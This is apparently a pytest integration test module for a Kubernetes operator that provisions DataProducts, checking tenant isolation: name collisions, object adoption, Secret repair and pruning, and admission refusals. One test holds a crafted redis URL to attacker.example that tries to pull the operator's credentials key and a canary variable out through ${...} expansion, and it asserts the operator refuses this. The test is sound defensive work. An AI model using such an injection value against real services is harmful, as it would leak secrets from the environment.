"""What a tenant who may create a DataProduct in its namespace can make the operator do, against a
real API server and the operator as a process.

- A `${NAME}` in a connection URL is never expanded by the operator: the product is
  Ready=False/InvalidSpec naming the field, and neither the credentials key nor any other variable
  of the operator's environment appears in any object of the namespace.
- Object names: product `a` with store `b-c` and product `a-b` with store `c` render the same names;
  the second is Ready=False/NameTaken and the first's objects stay its own. An unlabelled object
  holding a desired name is neither adopted nor overwritten, and deleting the product leaves it.
- Secrets are not watched: a deleted credentials Secret is restored by the status refresh, and a
  removed store's Secret is pruned with the workloads that read it.
- `plan --target k8s` needs no credentials key: a managed store's Secret is planned as derived.
- Admission refuses a product whose object names another product of the namespace renders.
"""

from __future__ import annotations

import base64
import json
import socket
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from kubernetes import client
from typer.testing import CliRunner

from provisioner.cli.app import app
from provisioner.kube.client import ApiRefusedError, KubeClient
from provisioner.kube.reconcile import CHILD_KINDS
from tests.integration.conftest import kafka_bootstrap  # noqa: F401  (fixture)

from .operator_harness import (
    KEY,
    OperatorProcess,
    children,
    condition,
    product,
    running_operator,
    wait_children,
    wait_for,
)

pytestmark = pytest.mark.integration
CANARY = "isolation-canary-6d1f0c"
URL_STORE = [{"name": "cache", "redis": {"connection": {"secretRef": {"name": "store-url", "key": "url"}}}}]


@pytest.fixture(scope="module")
def namespace(kube_api: client.ApiClient) -> Iterator[str]:
    name = f"iso-{uuid.uuid4().hex[:8]}"
    client.CoreV1Api(kube_api).create_namespace({"metadata": {"name": name}})
    yield name
    client.CoreV1Api(kube_api).delete_namespace(name)


@pytest.fixture(scope="module")
def operator(operator_kubeconfig: Path, namespace: str, kafka_bootstrap: str,  # noqa: F811
             tmp_path_factory: pytest.TempPathFactory) -> Iterator[OperatorProcess]:
    with running_operator(operator_kubeconfig, namespace, kafka_bootstrap, tmp_path_factory.mktemp("op"),
                          env={"ISOLATION_CANARY": CANARY}) as op:
        yield op
        print(op.text()[-6000:])  # shown when a test of this module failed


def _ready(kube: KubeClient, namespace: str, name: str, reason: str) -> dict[str, Any]:
    return wait_for(f"Ready=False/{reason} of {name}", lambda: (
        c := condition(kube.get("DataProduct", namespace, name), "Ready")) and c["reason"] == reason and c)


def _everything(kube: KubeClient, namespace: str) -> str:
    """Every object of the namespace the operator could write, Secrets' values decoded."""
    objects = [o for kind in (*CHILD_KINDS, "Event", "DataProduct") for o in kube.list(kind, namespace)]
    decoded = [base64.b64decode(v).decode(errors="replace") for o in objects if o["kind"] == "Secret"
               for v in (o.get("data") or {}).values()]
    return json.dumps(objects) + "\n".join(decoded)


def test_the_operators_environment_reaches_no_object(kube: KubeClient, namespace: str,
                                                     operator: OperatorProcess) -> None:
    url = "redis://attacker.example:6379/0?client_name=${PROVISIONER_CREDENTIALS_KEY}&db=${ISOLATION_CANARY}"
    stores = [{"name": "cache", "redis": {"connection": {"url": url}}}, {"name": "db", "postgres": {}}]
    kube.apply(product("exfil", namespace, "iso.exfil", stores=stores))
    ready = _ready(kube, namespace, "exfil", "InvalidSpec")
    assert ready["message"].startswith("spec.stores[0].redis.connection.url: ${PROVISIONER_CREDENTIALS_KEY} is not")
    assert children(kube, namespace, "exfil") == {}
    # A valid product beside it: the operator renders with its key (derived passwords), never the key.
    kube.apply(product("fine", namespace, "iso.fine", stores=[{"name": "db", "postgres": {}}]))
    wait_for("the managed store's Secret", lambda: kube.get("Secret", namespace, "fine-db-credentials"))
    text = _everything(kube, namespace) + operator.text()
    assert KEY not in text
    assert CANARY not in text


def test_a_name_another_product_holds_is_not_taken(kube: KubeClient, namespace: str,
                                                    operator: OperatorProcess) -> None:
    first = kube.apply(product("a", namespace, "iso.a", stores=[{**URL_STORE[0], "name": "b-c"}]))
    owned = wait_children(kube, namespace, "a", 3)
    assert ("Deployment", "a-b-c-consumer") in owned
    kube.apply(product("a-b", namespace, "iso.ab", stores=[{**URL_STORE[0], "name": "c"}]))
    ready = _ready(kube, namespace, "a-b", "NameTaken")
    assert "Deployment a-b-c-consumer already exists and belongs to DataProduct a" in ready["message"]
    events = [e for e in kube.list("Event", namespace) if e["involvedObject"]["name"] == "a-b"]
    assert any(e["reason"] == "NameTaken" for e in events)
    deployment = kube.get("Deployment", namespace, "a-b-c-consumer")
    assert deployment is not None
    assert [r["uid"] for r in deployment["metadata"]["ownerReferences"]] == [first["metadata"]["uid"]]
    assert deployment["metadata"]["labels"]["app.kubernetes.io/part-of"] == "a"
    # Deleting the product that lost the name takes none of the other's objects with it.
    kube.delete("DataProduct", namespace, "a-b")
    wait_for("a-b's own objects collected", lambda: not children(kube, namespace, "a-b"))
    assert set(children(kube, namespace, "a")) == set(owned)


def test_an_unlabelled_object_is_not_adopted_nor_collected(kube: KubeClient, namespace: str,
                                                           operator: OperatorProcess) -> None:
    kube.create({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "lone-spec", "namespace": namespace},
                 "data": {"mine": "yes"}})
    kube.apply(product("lone", namespace, "iso.lone", stores=URL_STORE))
    ready = _ready(kube, namespace, "lone", "NameTaken")
    assert "ConfigMap lone-spec already exists and was not created by the operator" in ready["message"]
    wait_children(kube, namespace, "lone", 2)  # the rest is created
    kube.delete("DataProduct", namespace, "lone")
    wait_for("lone's objects collected", lambda: not children(kube, namespace, "lone"))
    mine = kube.get("ConfigMap", namespace, "lone-spec")
    assert mine is not None and mine["data"] == {"mine": "yes"}
    assert not mine["metadata"].get("ownerReferences") and not mine["metadata"].get("labels")


def test_secrets_are_repaired_and_pruned_without_a_watch(kube: KubeClient, namespace: str,
                                                         operator: OperatorProcess) -> None:
    stores = [*URL_STORE, {"name": "db", "postgres": {}}]
    kube.apply(product("keys", namespace, "iso.keys", stores=stores))
    secret = wait_for("the credentials Secret", lambda: kube.get("Secret", namespace, "keys-db-credentials"))
    kube.delete("Secret", namespace, "keys-db-credentials")
    restored = wait_for("the Secret restored", lambda: kube.get("Secret", namespace, "keys-db-credentials"))
    assert restored["metadata"]["uid"] != secret["metadata"]["uid"]
    assert restored["data"] == secret["data"]
    kube.apply(product("keys", namespace, "iso.keys", stores=URL_STORE))
    wait_for("the removed store's Secret pruned", lambda: kube.get("Secret", namespace, "keys-db-credentials") is None)
    assert kube.get("Secret", namespace, "store-url") is None  # a secretRef's Secret is the user's (none here)


def test_plan_needs_no_credentials_key(kubeconfig: Path, kube: KubeClient, namespace: str, tmp_path: Path,
                                       monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("PROVISIONER_CREDENTIALS_KEY", raising=False)
    spec = tmp_path / "planned.yaml"
    spec.write_text(yaml.safe_dump(product("planned", namespace, "iso.planned", stores=[{"name": "db", "postgres": {}}])))
    result = CliRunner().invoke(app, ["plan", str(spec), "--target", "k8s", "--kubeconfig", str(kubeconfig),
                                      "--namespace", namespace, "--kafka-bootstrap", "kafka:9092", "-o", "json"])
    assert result.exit_code == 0, result.output
    [planned] = json.loads(result.stdout)["products"]
    actions = {(o["kind"], o["name"]): o["action"] for o in planned["objects"]}
    assert actions[("Secret", "planned-db-credentials")] == "derived"
    assert actions[("StatefulSet", "planned-db")] == "create"


def test_admission_refuses_a_product_whose_names_another_holds(operator_kubeconfig: Path, kube: KubeClient,
                                                                kube_api: client.ApiClient, tmp_path: Path,
                                                                kafka_bootstrap: str) -> None:  # noqa: F811
    namespace = f"iso-{uuid.uuid4().hex[:8]}"
    client.CoreV1Api(kube_api).create_namespace({"metadata": {"name": namespace}})
    port = _free_port()
    configuration = "provisioner.dev"  # the bundle's: the one the operator may patch
    extra = ["--webhook", "--webhook-host", "127.0.0.1", "--webhook-port", str(port),
             "--webhook-configuration", configuration, "--webhook-cert-dir", str(tmp_path / "certs")]
    try:
        with running_operator(operator_kubeconfig, namespace, kafka_bootstrap, tmp_path, extra=extra):
            wait_for("the webhook configured", lambda: ((kube.get("ValidatingWebhookConfiguration", None,
                                                                  configuration) or {}).get("webhooks")))
            kube.apply(product("a", namespace, "iso.a", stores=[{**URL_STORE[0], "name": "b-c"}]))
            wait_children(kube, namespace, "a", 3)
            clashing = product("a-b", namespace, "iso.ab", stores=[{**URL_STORE[0], "name": "c"}])
            refused: list[str] = []

            def try_clashing() -> bool:
                try:
                    kube.create(clashing)
                except ApiRefusedError as error:
                    refused.append(str(error))
                    return True
                kube.delete("DataProduct", namespace, "a-b")  # admitted before the listener was up
                return False

            wait_for("the clashing product refused", try_clashing, every=1)
            assert "Deployment a-b-c-consumer" in refused[0] and "product 'a'" in refused[0], refused
            assert kube.get("DataProduct", namespace, "a-b") is None
            # Its own update is no clash with itself.
            kube.apply(product("a", namespace, "iso.a2", stores=[{**URL_STORE[0], "name": "b-c"}]))
    finally:
        client.CoreV1Api(kube_api).delete_namespace(namespace)


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])
